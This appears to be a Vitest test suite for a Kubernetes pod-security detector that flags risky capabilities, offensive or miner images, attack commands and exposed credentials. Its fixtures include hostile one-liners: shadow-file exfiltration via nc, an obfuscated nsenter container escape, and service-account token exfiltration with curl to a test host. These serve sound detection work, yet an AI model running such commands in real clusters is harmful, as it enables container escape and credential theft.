import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../shared/model/json.ts';
import { withoutSecrets } from '../../shared/knowledge/exposed-credentials.ts';
import { offensiveImage } from '../../shared/knowledge/offensive-image.ts';
import { allTraits, lookedForNow } from '../../shared/knowledge/pod-traits.ts';
import { traitVerdict } from '../../shared/knowledge/trait-verdict.ts';
import { AuditEvent, AuditReader } from '../../shared/model/audit.ts';
import { siteOf } from '../../shared/model/site.ts';
import { podSpecOf } from '../../shared/model/pod-spec.ts';

function traits(spec: unknown, annotations?: Record<string, unknown>, namespace = 'shop') {
  const pod = podSpecOf('pods', { metadata: { annotations }, spec });
  return pod === undefined ? [] : allTraits(pod, pod.containers, namespace, undefined);
}

const kinds = (spec: unknown): readonly string[] => traits(spec).map(({ kind, severity }) => `${kind} ${severity}`);
const one = (container: unknown): { containers: readonly unknown[] } => ({ containers: [container] });
const adding = (...add: unknown[]) => one({ name: 'a', image: 'x', securityContext: { capabilities: { add } } });

describe('capabilities', () => {
  it.each(['SYS_ADMIN', 'CAP_SYS_ADMIN', 'cap_sys_admin', 'all', ' SYS_MODULE '])('%s is grave', (name) => {
    expect(kinds(adding(name))).toEqual(['capability high']);
  });

  it('of the runtime are no news, and odd ones hide nothing', () => {
    expect(kinds(adding('NET_RAW', 'SETUID', 'MKNOD', 'SYS_CHROOT', 'NET_BIND_SERVICE'))).toEqual([]);
    expect(kinds(adding(null, 7, {}, ['ALL'], '__proto__', 'constructor', 'DAC_READ_SEARCH'))).toEqual(['capability high']);
  });

  it('weigh more where the pod shares with its node what they act on', () => {
    expect(kinds(adding('SYS_PTRACE', 'NET_ADMIN'))).toEqual(['capability low', 'capability low']);
    expect(kinds({ ...adding('SYS_PTRACE'), hostPID: true })).toEqual(['capability high', 'host-pid high']);
    expect(kinds({ ...adding('NET_ADMIN'), hostNetwork: true })).toEqual(['capability medium', 'host-network medium']);
  });

  it('of a privileged container are remembered and not told', () => {
    const both = one({ name: 'a', image: 'x', securityContext: { privileged: true, capabilities: { add: ['ALL'] } } });
    expect(traits(both).map(({ kind, implied }) => [kind, implied])).toEqual([
      ['privileged', undefined],
      ['capability', true],
    ]);
  });
});

describe('images', () => {
  it.each([
    'docker.io/kalilinux/kali-rolling',
    'kalilinux/kali-rolling:latest',
    'ghcr.io/x/kali-linux-docker@sha256:00',
    'METAL3D/XMRIG',
    'registry.example:5000/tools/kube-hunter-v0.6.8',
    'pocosow/centos',
    'a/monero_miner',
  ])('%s is known', (image) => {
    expect(offensiveImage(image)?.severity).toBe('high');
  });

  it.each(['nginx', 'shop/kalibration', 'nmap.example.com/shop/api', 'shop/api:xmrig', 'docker.io/library/docker', '', '/', '::@@'])(
    '%s is not',
    (image) => {
      expect(offensiveImage(image)).toBeUndefined();
    },
  );
});

describe('commands', () => {
  it.each([
    [{ command: ['xmrig'] }],
    [{ command: null, args: ['sh', null, '-c', 'nsenter -t 1 -m'] }],
    [{ lifecycle: { postStart: null, preStop: { exec: { command: ['/tmp/pspy64'] } } } }],
    [{ livenessProbe: 7, readinessProbe: { exec: { command: ['sh', '-c', 'p=/etc/sha; cat ${p}dow | nc 192.0.2.1 9'] } } }],
    [{ startupProbe: { exec: { command: ['sh', '-c', 'echo bnNlbnRlciAtdCAxIC1t | base64 -d | sh'] } } }],
    [{ command: ['sh', '-c', '$A$B 1'], env: [null, { name: 'A', value: 'nsen' }, { name: 'B', value: 'ter -t' }] }],
  ])('%j attack', (container) => {
    expect(kinds(one({ name: 'a', image: 'x', ...container }))).toEqual(['offensive-command high']);
  });

  it('are not attacks for naming a key, a token or a socket', () => {
    const args = [
      '--key=/tls/tls.key',
      '--kubeconfig=/etc/kubernetes/x',
      '--docker=unix:///var/run/docker.sock',
      '--tokens=/var/run/secrets',
    ];
    expect(kinds(one({ name: 'a', image: 'x', args }))).toEqual([]);
  });

  it('that read credentials weigh more where they send, and not to the API server', () => {
    const token = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token';
    const by = (line: string) => kinds(one({ name: 'a', image: 'x', command: ['sh', '-c', line] }));
    expect(by(`T=$(${token}); /app`)).toEqual(['offensive-command medium']);
    expect(by(`T=$(${token}); curl -H "$T" https://kubernetes.default.svc/api`)).toEqual(['offensive-command medium']);
    expect(by(`${token} | curl -d @- https://192.0.2.1/`)).toEqual(['offensive-command high']);
    expect(by('curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://192.0.2.1/')).toEqual(['offensive-command high']);
  });

  it('cost no more than their line', () => {
    const value = 'A'.repeat(30_000);
    const containers = Array.from({ length: 30 }, (_, index) => ({
      name: String(index),
      image: 'x',
      command: ['sh', '-c', '$X'.repeat(10_000)],
      env: [{ name: 'X', value }],
    }));
    const start = performance.now();
    traits({ containers });
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});

describe('credentials', () => {
  const inEnv = (name: string, value: unknown) => traits(one({ name: 'a', image: 'x', env: [null, { name }, { name, value }] }));
  const secrets: readonly (readonly [string, string])[] = [
    ['X', 'AKIAIOSFODNN7EXAMPLE'],
    ['AWS_SECRET_ACCESS_KEY', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
    ['DB_PASSWORD', 'Tr0ub4dor-3x'],
    ['dbPassword', 'k3yb0ard-Cat!91'],
    ['SESSION_SECRET', '0123456789abcdef0123456789abcdef'],
    ['DATABASE_URL', 'postgres://app:Tr0ub4dor-3x@db/app'],
    ['OPTIONS', '--api-key=Zx81_Spectrum48k --verbose'],
    ['T', `ghp_${'a1B2'.repeat(9)}`],
  ];

  it.each(secrets)('%s is found, and not repeated', (name, value) => {
    const found = inEnv(name, value);
    expect(found.map(({ kind }) => kind)).toEqual(['credential']);
    const shown = JSON.stringify(found);
    for (let at = 0; at + 8 <= value.length; at += 1) {
      const part = value.slice(at, at + 8);
      if (!/^[-:\w]+:\/\/|--api/.test(value)) expect(shown).not.toContain(part);
    }
    expect(shown).not.toContain('Tr0ub4dor-3x');
    expect(shown).not.toContain('Spectrum48k');
  });

  it.each([
    ['DB_PASSWORD', '$(FROM_SECRET)'],
    ['DB_PASSWORD', ''],
    ['DB_PASSWORD', 12],
    ['PASSWORD_FILE', '/run/secrets/password1!Aa'],
    ['TOKEN_URL', 'https://login.example/oauth2/token'],
    ['TLS_SECRET', 'frontend-tls-v2'],
    ['TOKEN', 'disabled'],
    ['LOG_LEVEL', 'Tr0ub4dor-3x'],
    ['IMAGE', 'shop@sha256:0123456789abcdef'],
  ])('%s=%s is none', (name, value) => {
    expect(inEnv(name, value)).toEqual([]);
  });

  it('are found in annotations, but not in the copy of the object', () => {
    const key = '-----BEGIN EC PRIVATE KEY-----';
    expect(traits(one(null), { a: null, b: key }).map(({ words }) => words)).toEqual(['private key in annotation b']);
    expect(traits(one(null), { 'kubectl.kubernetes.io/last-applied-configuration': key })).toEqual([]);
  });

  it('are cut in commands that are shown', () => {
    expect(withoutSecrets('tool --password=Tr0ub4dor-3x postgres://a:Tr0ub4dor-3x@db AKIAIOSFODNN7EXAMPLE')).toBe(
      'tool --password=Tr0u… postgres://a:Tr0u…@db AKIA…',
    );
  });
});

describe('placement', () => {
  it('is odd with a node by name, or by choice past every taint', () => {
    const byName = { nodeSelector: { 'kubernetes.io/hostname': 'n' } };
    expect(kinds({ containers: [], nodeName: 'n' })).toEqual(['pinned medium']);
    expect(kinds({ containers: [], nodeName: null, ...byName, tolerations: [null, { operator: 'Exists' }] })).toEqual(['pinned medium']);
    expect(kinds({ containers: [], ...byName, tolerations: [{ key: 'a', operator: 'Exists' }] })).toEqual([]);
  });

  it('is grave with an account of a controller, under either name of the field', () => {
    const spec = { containers: [], serviceAccount: 'job-controller' };
    expect(traits(spec, {}, 'kube-system').map(({ kind }) => kind)).toEqual(['controller-account']);
    expect(traits(spec)).toEqual([]);
  });
});

describe('a template that was remembered', () => {
  const path = join(
    import.meta.dirname,
    '../../events/samples/host-access/dangerous-capability/fires/patched-into-known-deployment.ndjson',
  );
  const scope = { cluster: 'harbour', account: '111122223333', region: 'eu-central-1' };
  const event = new AuditReader(siteOf()).read({ id: '1', message: readFileSync(path, 'utf8').trim() }, scope);
  const told = (previous: JsonObject) => (event instanceof AuditEvent ? traitVerdict(event, 'capability', previous) : undefined);

  it('before anybody looked for a trait says nothing about it', () => {
    const verdict = told({ containers: [], access: [] });
    expect(verdict?.summary).not.toContain('previous version');
    expect(verdict?.confidence).toBeUndefined();
  });

  it('without a trait that was looked for makes it news, and with it none', () => {
    for (const lookedFor of [lookedForNow.length, lookedForNow]) {
      expect(told({ access: [], lookedFor })?.summary).toContain('its previous version had none of it');
      expect(told({ access: ['capability container api ALL high'], lookedFor })).toBeUndefined();
    }
    expect(told({ access: [], lookedFor: lookedForNow.indexOf('capability') })?.summary).not.toContain('previous version');
  });
});

it('remembers every kind that it tells', () => {
  const everything = {
    hostNetwork: true,
    hostPID: true,
    hostIPC: true,
    nodeName: 'n',
    serviceAccountName: 'job-controller',
    volumes: ['/etc', '/run/containerd/containerd.sock'].map((path) => ({ name: path, hostPath: { path } })),
    containers: [
      {
        name: 'a',
        image: 'xmrig',
        command: ['xmrig'],
        ports: [{ hostPort: 22 }],
        env: [{ name: 'K', value: 'AKIAIOSFODNN7EXAMPLE' }],
        securityContext: { privileged: true, capabilities: { add: ['ALL'] } },
      },
    ],
  };
  expect([...new Set(traits(everything, {}, 'kube-system').map(({ kind }) => kind))].sort()).toEqual([...lookedForNow].sort());
});
